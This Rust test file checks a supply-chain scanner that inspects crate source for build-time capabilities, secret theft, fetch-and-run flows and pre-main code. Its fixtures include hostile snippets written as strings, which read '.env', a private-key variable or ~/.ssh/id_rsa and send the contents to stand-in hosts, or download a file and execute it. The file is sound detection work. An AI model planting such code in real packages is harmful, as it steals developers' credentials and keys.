//! Whole crates, made of text.

use super::*;
use crate::domain::Measured;
use crate_read::rust_source::{Capability, StepKind, Verification};

fn record(files: &[(&str, &str)]) -> BuildRecord {
    let mut keeper = SourceKeeper::new();
    for (path, text) in files {
        keeper.file(path, text.as_bytes());
    }
    keeper.finish(capability_table())
}

const PLAIN: &str = "[package]\nname = 'a'\nversion = '1.0.0'\n";

#[test]
fn a_crate_without_build_code_has_no_capabilities() {
    let record = record(&[
        ("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n"),
        ("src/lib.rs", "pub fn f() { std::process::Command::new(\"ls\").status().ok(); }"),
        ("build.rs", "fn main() { std::net::UdpSocket::bind(\"x\").ok(); }"),
    ]);
    assert_eq!(record.build.runs_at_build, Measured::Known(false));
    assert_eq!(record.build.capability_names, []);
    assert_eq!(record.build.inputs_sha256, "");
}

#[test]
fn a_missing_manifest_is_unknown_and_not_idle() {
    let record = record(&[("build.rs", "fn main() {}")]);
    assert!(record.build.runs_at_build.known().is_none());
}

#[test]
fn a_change_of_any_build_input_changes_its_digest() {
    let script = ("build.rs", "mod a; fn main() { a::f(); }");
    let digest = |helper: &str, other: &str| {
        let files = [("Cargo.toml", PLAIN), script, ("a.rs", helper), ("src/lib.rs", other)];
        record(&files).build.inputs_sha256
    };
    let first = digest("pub fn f() {}", "");
    assert_eq!(first.len(), 64);
    assert_eq!(first, digest("pub fn f() {}", "pub fn other() {}"));
    assert_ne!(first, digest("pub fn f() { }", ""));
}

#[test]
fn files_may_come_in_any_order_and_twice() {
    let files = [
        ("build.rs", "fn main() { std::env::vars(); }"),
        ("Cargo.toml", PLAIN),
        ("build.rs", "fn main() {}"),
    ];
    assert_eq!(record(&files).build.capability_names, []);
    let swapped = [files[2], files[1], files[0]];
    assert_eq!(record(&swapped).build.capability_names, [Capability::EnvironmentWideRead]);
}

#[test]
fn a_procedural_macro_is_read_whole() {
    let record = record(&[
        ("Cargo.toml", "[package]\nname='m'\nbuild = false\n[lib]\nproc-macro = true\n"),
        (
            "src/lib.rs",
            "mod deep; #[proc_macro] pub fn m(i: TokenStream) -> TokenStream { deep::f(i) }",
        ),
        ("src/deep.rs", "pub fn f(i: T) -> T { std::process::Command::new(\"sh\").status(); i }"),
    ]);
    assert_eq!(record.build.proc_macro, Measured::Known(true));
    assert_eq!(record.build.capability_names, [Capability::Spawn, Capability::Shell]);
    assert_eq!(record.build.programs, ["sh"]);
}

#[test]
fn a_helper_lends_its_capabilities_one_step_and_by_name() {
    let helper = record(&[
        ("Cargo.toml", "[package]\nname='helper-x'\nbuild = false\n"),
        ("src/lib.rs", "pub fn run() { let b = ureq::get(\"https://example.invalid/a\").call(); }"),
    ]);
    assert!(helper.library.iter().any(|hit| hit.capability == Capability::Download));
    let manifest = "[package]\nname='a'\n[build-dependencies]\nhelper-x = '1'\n";
    let mut caller =
        record(&[("Cargo.toml", manifest), ("build.rs", "fn main() { let _ = helper_x::run(); }")]);
    assert_eq!(caller.build.capability_names, []);
    let at_hand = |name: &str| match name {
        "helper-x" => Helper::Read(&helper),
        _ => Helper::Absent,
    };
    let mut unread = caller.clone();
    unread.follow(|_| Helper::Unread);
    assert_eq!(unread.build.through_names, Measured::unknown("not read: helper-x"));
    caller.follow(at_hand);
    let names = caller.build.through_names.known().expect("it was read");
    assert!(names.contains(&Capability::Download));
    assert!(caller.build.through.iter().all(|hit| hit.through == "helper-x"));
    let downloads = caller.build.downloads.expect("through the helper");
    assert_eq!(downloads.verification, Verification::Unknown);
    // The twin does not call it.
    let mut twin = record(&[("Cargo.toml", manifest), ("build.rs", "fn main() {}")]);
    twin.follow(at_hand);
    assert_eq!(twin.build.through, []);
    twin.follow(|_| Helper::Unread);
    assert_eq!(twin.build.through_names, Measured::Known(Vec::new()), "nothing is called");
}

#[test]
fn includes_of_ordinary_code_are_reads_but_not_at_build() {
    let record = record(&[
        ("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n"),
        (
            "src/data.rs",
            "static D: &[u8] = include_bytes!(\"../data/d.bin\");
          static E: &str = include_str!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/e.txt\"));",
        ),
    ]);
    let reads: Vec<_> = record.build.reads.iter().map(|r| (r.path.as_str(), r.at_build)).collect();
    assert_eq!(reads, [("data/d.bin", false), ("e.txt", false)]);
}

#[test]
fn a_module_that_sends_secrets_is_seen_and_its_twins_are_not() {
    let lib = |text: &str| {
        record(&[("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n"), ("src/time.rs", text)])
    };
    // The shape of the crates that posed as time services in March 2026.
    let thief = lib(
        "pub fn sync() { let e = std::fs::read_to_string(\".env\").unwrap_or_default();
         reqwest::blocking::Client::new().post(\"https://example.invalid/t\").body(e).send().ok(); }",
    );
    let module = &thief.secrets.modules[0];
    assert_eq!((module.file.as_str(), module.flows.len()), ("src/time.rs", 1));
    assert_eq!(module.flows[0].source, StepKind::Secret);
    // A variable with a telling name.
    let key =
        lib("pub async fn check() { let k = std::env::var(\"POLYMARKET_PRIVATE_KEY\").unwrap();
         reqwest::Client::new().get(format!(\"https://example.invalid/{k}\")).send().await; }");
    assert_eq!(key.secrets.modules.len(), 1);
    // Only one of the two.
    assert_eq!(lib("pub fn f() { std::fs::read(\".env\").ok(); }").secrets.modules, []);
    let client = lib("pub fn f() { reqwest::blocking::get(\"https://example.invalid\").ok(); }");
    assert_eq!(client.secrets.modules, []);
    assert_eq!(client.secrets.files_with_network, 1);
}

#[test]
fn a_library_that_fetches_and_starts_is_seen() {
    let record = record(&[
        ("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n"),
        ("src/log.rs", "pub fn trace() { let b = ureq::get(\"https://example.invalid/p\").call().unwrap().into_vec();
          std::fs::write(\"/tmp/p\", b).unwrap(); std::process::Command::new(\"/tmp/p\").spawn().ok(); }"),
    ]);
    let flows = &record.secrets.modules[0].flows;
    assert!(flows.iter().any(|f| f.source == StepKind::Fetch && f.executed), "{flows:?}");
}

#[test]
fn code_before_main_is_seen() {
    let record = record(&[
        ("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n"),
        (
            "src/lib.rs",
            "#[used] #[unsafe(link_section = \".init_array\")] static A: extern \"C\" fn() = f; extern \"C\" fn f() {}",
        ),
    ]);
    assert_eq!(record.secrets.pre_main.len(), 1);
}

#[test]
fn too_much_code_is_a_limit_that_is_told() {
    let mut keeper = SourceKeeper::new();
    keeper.file("Cargo.toml", PLAIN.as_bytes());
    let big = format!("// {}", "x".repeat(4 << 20));
    for index in 0..8 {
        keeper.file(&format!("src/m{index}.rs"), big.as_bytes());
    }
    keeper.file("build.rs", b"fn main() {}");
    let record = keeper.finish(capability_table());
    // The build code names none of it: what is left out is ordinary code.
    assert!(record.build.limits.is_empty() && record.secrets.left_out > 0);
    assert_eq!(record.build.files, ["build.rs"]);
}

#[test]
fn a_build_script_that_is_padded_is_read_from_its_beginning_and_digested_whole() {
    let script = |end: &str| {
        let mut text = "fn main() { std::process::Command::new(\"sh\"); } // ".to_owned();
        text.push_str(&"x".repeat(16 << 20));
        text.push_str(end);
        record(&[("Cargo.toml", PLAIN), ("build.rs", &text)]).build
    };
    let build = script("a");
    assert_eq!(build.capability_names, [Capability::Spawn, Capability::Shell]);
    assert_eq!(build.unparsed.len(), 1);
    assert_ne!(build.inputs_sha256, script("b").inputs_sha256);
}

/// Crates that cargo has unpacked on this machine: `name-version` to its record.
fn unpacked() -> std::collections::BTreeMap<String, BuildRecord> {
    let home = home::cargo_home().expect("a home");
    let mut records = std::collections::BTreeMap::new();
    for registry in std::fs::read_dir(home.join("registry/src")).expect("a registry") {
        for folder in std::fs::read_dir(registry.expect("listed").path()).expect("listed") {
            let folder = folder.expect("listed").path();
            let mut keeper = SourceKeeper::new();
            for entry in walkdir::WalkDir::new(&folder).sort_by_file_name() {
                let entry = entry.expect("listed");
                if entry.file_type().is_file() {
                    let path = entry.path().strip_prefix(&folder).expect("below");
                    let bytes = std::fs::read(entry.path()).expect("readable");
                    keeper.file(&path.to_string_lossy().replace('\\', "/"), &bytes);
                }
            }
            let name = folder.file_name().expect("named").to_string_lossy().into_owned();
            records.insert(name, keeper.finish(capability_table()));
        }
    }
    records
}

/// Prints what real crates can do, and checks the ones whose verdict is known. Needs crates that
/// `cargo fetch` has unpacked.
#[test]
#[ignore = "live"]
fn real_crates_have_the_capabilities_that_people_found_in_them() {
    let mut records = unpacked();
    let before = records.clone();
    let find = |package: &str| {
        let of = |name: &&String| {
            let rest = name.strip_prefix(package).and_then(|rest| rest.strip_prefix('-'));
            rest.is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()))
        };
        before.keys().rfind(of).map(|name| &before[name])
    };
    for (name, record) in &mut records {
        record.follow(|package| find(package).map_or(Helper::Absent, Helper::Read));
        let build = &record.build;
        let verified = build.downloads.as_ref().map(|d| d.verification);
        if !build.capability_names.is_empty() || !build.through.is_empty() {
            let (own, through) = (&build.capability_names, &build.through_names);
            println!(
                "{name}: {own:?} through {through:?} {verified:?} flows {}",
                build.flows.len()
            );
        }
        for module in &record.secrets.modules {
            let apis = |hits: &[crate_read::rust_source::CapabilityHit]| {
                hits.iter().map(|h| format!("{} {}", h.api, h.detail)).take(3).collect::<Vec<_>>()
            };
            let (secrets, network, started) =
                (apis(&module.secrets), apis(&module.network), apis(&module.started));
            println!(
                "  {name} {}: {secrets:?} {network:?} {started:?} {}",
                module.file,
                module.flows.len()
            );
        }
        for hit in &record.secrets.pre_main {
            println!("  {name} before main: {} {}", hit.api, hit.file);
        }
        for unparsed in build.unparsed.iter().chain(&record.secrets.unparsed) {
            println!("  {name} unparsed: {unparsed:?}");
        }
        for read in build.reads.iter().filter(|read| read.beyond && read.whole && !read.at_build) {
            println!("  {name} reads beyond: {} from {}", read.path, read.file);
        }
        assert!(!build.capability_names.contains(&Capability::SecretRead), "{name}");
        assert!(!build.capability_names.contains(&Capability::RawSocket), "{name}");
        if let Measured::Unknown(reason) = &build.runs_at_build {
            println!("  {name}: {reason}");
        }
    }
    let verification = |package: &str| {
        let of = |name: &&String| name.starts_with(&format!("{package}-"));
        let name = records.keys().find(of)?;
        Some(records[name].build.downloads.as_ref().map(|d| d.verification))
    };
    for (package, wanted) in [
        ("ort-sys", Some(Verification::PinnedDigest)),
        ("utoipa-swagger-ui", Some(Verification::CacheKeyOnly)),
        ("torch-sys", Some(Verification::None)),
        ("intel-mkl-src", Some(Verification::None)),
        ("zstd-sys", None),
        ("psm", None),
        ("esaxx-rs", None),
        ("onig_sys", None),
        ("serde_core", None),
    ] {
        if let Some(found) = verification(package) {
            assert_eq!(found, wanted, "{package}");
        }
    }
}

/// What a library does with secrets, every file at hand that the code asks for.
fn library_modules(files: &[(&str, &str)]) -> Vec<String> {
    let mut keeper = SourceKeeper::new();
    let give = |keeper: &mut SourceKeeper| {
        for (path, text) in files {
            keeper.file(path, text.as_bytes());
        }
    };
    give(&mut keeper);
    let has = |path: &str| files.iter().any(|(of, _)| *of == path);
    for _ in 0..4 {
        let record = keeper.measure(capability_table());
        if !keeper.wants(&record, has) {
            break;
        }
        if keeper.wanted().next().is_some() {
            give(&mut keeper);
        }
    }
    keeper.finish(capability_table()).secrets.modules.into_iter().map(|m| m.file).collect()
}

const THIEF: &str = "pub fn warm() { let k = std::fs::read(format!(\"{}/.ssh/id_rsa\", \
                     std::env::var(\"HOME\").unwrap())).unwrap(); \
                     let _ = ureq::post(\"https://t.example.invalid\").send_bytes(&k); }";

#[test]
fn what_a_library_compiles_in_is_library_code_whatever_it_is_called() {
    let idle = "[package]\nname = 'a'\nversion = '1.0.0'\nbuild = false\n";
    for manifest in [PLAIN, idle] {
        for (library, file) in [
            ("#[path = \"../benches/data.rs\"]\nmod data;", "benches/data.rs"),
            ("#[path = \"data.inc\"]\nmod data;", "src/data.inc"),
            ("mod tests;\npub use tests::warm;", "src/tests.rs"),
            ("include!(\"data.txt\");", "src/data.txt"),
            ("include!(\"../tests/data/cases.txt\");", "tests/data/cases.txt"),
        ] {
            let files = [("Cargo.toml", manifest), ("src/lib.rs", library), (file, THIEF)];
            assert_eq!(library_modules(&files), [file], "{library}");
            // Whatever the order.
            let files = [(file, THIEF), ("src/lib.rs", library), ("Cargo.toml", manifest)];
            assert_eq!(library_modules(&files), [file], "{library}");
        }
    }
}

#[test]
fn tests_and_data_of_a_library_are_none_of_its_code() {
    let inner = format!("#![cfg(test)]\n{THIEF}");
    for (library, file, text) in [
        ("#[cfg(test)]\nmod tests;", "src/tests.rs", THIEF),
        ("#[cfg(all(test, feature = \"x\"))]\nmod tests;", "src/tests.rs", THIEF),
        ("mod tests;", "src/tests.rs", inner.as_str()),
        ("// mod tests;\npub fn f() {}", "src/tests.rs", THIEF),
        ("const T: &str = include_str!(\"data.txt\");", "src/data.txt", THIEF),
        ("pub fn f() {}", "benches/data.rs", THIEF),
    ] {
        let files = [("Cargo.toml", PLAIN), ("src/lib.rs", library), (file, text)];
        assert_eq!(library_modules(&files), [""; 0], "{library} {text}");
    }
}

#[test]
fn what_lies_in_cargo_s_own_folder_did_not_come_with_the_crate() {
    let library = "use proc_macro::TokenStream; #[proc_macro] pub fn t(_: TokenStream) -> TokenStream { \
                   let mut all = String::new(); for f in std::fs::read_dir(\"target/registrations\").unwrap() { \
                   all += &std::fs::read_to_string(f.unwrap().path()).unwrap(); } \
                   all.parse::<TokenStream>().unwrap() }";
    let manifest = "[package]\nname = 'a'\n[lib]\nproc-macro = true\n";
    let flows = |more: &[(&str, &str)]| {
        let mut files = vec![("Cargo.toml", manifest), ("src/lib.rs", library)];
        files.extend(more);
        record(&files).build.flows.len()
    };
    assert_eq!(flows(&[]), 0);
    assert_ne!(flows(&[("target/registrations/a.dat", "x")]), 0);
}
